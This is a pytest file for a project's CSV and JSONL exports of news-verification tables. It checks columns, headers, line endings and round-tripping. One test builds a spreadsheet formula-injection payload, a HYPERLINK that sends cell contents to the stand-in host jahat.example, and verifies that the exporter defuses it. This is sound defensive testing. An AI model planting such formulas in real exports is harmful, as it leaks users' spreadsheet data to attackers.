"""Tables: fixed columns, a header without rows too, cells that no spreadsheet runs, JSONL that comes back whole."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from palagan.exports.columns import COLUMNS
from palagan.exports.delimited import FORMULA_STARTS, as_csv
from palagan.exports.jsonl import as_jsonl
from palagan.exports.tables import TABLES
from palagan.model.record import Record
from palagan.views.actors import actors
from palagan.views.cards import PageCard
from palagan.views.claims import claims, discrepancies
from palagan.views.ledgers import ledgers
from palagan.views.lineage import copies, origins, stories
from palagan.views.timeline import timeline
from tests.strategies import records
from tests.views.made import CARDS, FIRST, READINGS, RECORD, SECOND, UNDATED

texts = st.text(max_size=40) | st.sampled_from(FORMULA_STARTS).flatmap(lambda start: st.text().map(start.__add__))


def rows_of(table: str, record: Record = RECORD) -> tuple[Any, ...]:
    if table == "actors":
        return actors(record, READINGS, CARDS)
    if table == "pages":
        return tuple(CARDS.values())
    views: dict[str, Any] = {
        "happenings": timeline,
        "claims": claims,
        "ledgers": ledgers,
        "discrepancies": discrepancies,
        "origins": origins,
        "copies": copies,
        "stories": stories,
    }
    return tuple(views[table](record, CARDS))


def card(title: str | None, id: str = "pg-1", url: str | None = None) -> PageCard:
    return PageCard(id, title, title, None, url, title, "a.txt", "id")


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_every_table_has_columns() -> None:
    assert set(COLUMNS) == set(TABLES)


@pytest.mark.parametrize("table", TABLES)
def test_cells_are_the_columns_in_order_and_of_their_types(table: str) -> None:
    lines = [line for row in rows_of(table) for line in TABLES[table](row)]
    assert lines
    for line in lines:
        assert list(line) == list(COLUMNS[table])
        for name, cell in line.items():
            wanted = COLUMNS[table][name]
            fits = (int, float) if wanted is float else wanted
            assert cell is None or isinstance(cell, fits), f"{table}.{name} holds {cell!r}"


@settings(max_examples=30)
@given(records((FIRST.id, SECOND.id, UNDATED.id, "pg-gone")))
def test_no_record_gives_a_cell_without_a_column(record: Record) -> None:
    for table in TABLES:
        for row in rows_of(table, record):
            for line in TABLES[table](row):
                assert list(line) == list(COLUMNS[table])


@pytest.mark.parametrize("table", TABLES)
def test_a_table_without_rows_has_its_header(table: str) -> None:
    assert as_csv(table, ()) == "\ufeff" + ",".join(COLUMNS[table]) + "\r\n"


def test_csv_begins_with_a_mark_and_ends_its_lines_as_rfc_4180_says() -> None:
    written = as_csv("happenings", rows_of("happenings"))
    assert written.startswith("\ufeffid,date,")
    assert written.endswith("\r\n")
    assert written.count("\ufeff") == 1
    header, *lines = read_back(written)
    assert [dict(zip(header, line, strict=True))["id"] for line in lines] == ["hp-past", "hp-strike", "hp-visit"]


def test_lists_in_a_cell_are_kept_apart() -> None:
    header, *lines = read_back(as_csv("happenings", rows_of("happenings")))
    strike = dict(zip(header, lines[1], strict=True))
    assert strike["outlets"] == "Kabar Uji | Warta Coba"
    assert (strike["background"], strike["origins_low"], strike["mode"]) == ("False", "2", "heavy-weapons")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_formula_in_a_page_is_defused(start: str) -> None:
    words = f'{start}HYPERLINK("http://jahat.example/?"&A1;"klik")'
    _, line = read_back(as_csv("pages", [card(words)]))
    assert line[1:4] == [f"'{words}"] * 3


def test_a_number_below_zero_stays_a_number() -> None:
    entry = rows_of("ledgers")
    assert ",9.0," in as_csv("ledgers", entry)


@given(st.lists(texts, max_size=4))
def test_no_cell_of_text_begins_a_formula_and_all_come_back(titles: list[str]) -> None:
    _, *lines = read_back(as_csv("pages", [card(title) for title in titles]))
    assert len(lines) == len(titles)
    for title, line in zip(titles, lines, strict=True):
        cell = line[3]
        assert not cell.startswith(FORMULA_STARTS)
        assert cell == (f"'{title}" if title.startswith(FORMULA_STARTS) else title)


@pytest.mark.parametrize("table", TABLES)
def test_jsonl_holds_one_object_a_row_nested_as_the_view(table: str) -> None:
    rows = rows_of(table)
    lines = as_jsonl(rows).splitlines()
    assert len(lines) == len(rows)
    assert all(isinstance(json.loads(line), dict) for line in lines)


def test_jsonl_keeps_the_words_and_both_sides() -> None:
    contested = json.loads(as_jsonl(rows_of("claims")).splitlines()[0])
    assert contested["denied"][0]["speaker"] == "Kementerian Pertahanan Armenia"
    assert contested["asserted"][0]["evidence"]["page"] == FIRST.id


@given(st.lists(texts, max_size=4))
def test_jsonl_comes_back_whole_line_by_line(titles: list[str]) -> None:
    lines = as_jsonl([card(title) for title in titles]).splitlines()
    assert [json.loads(line)["title"] for line in lines] == titles
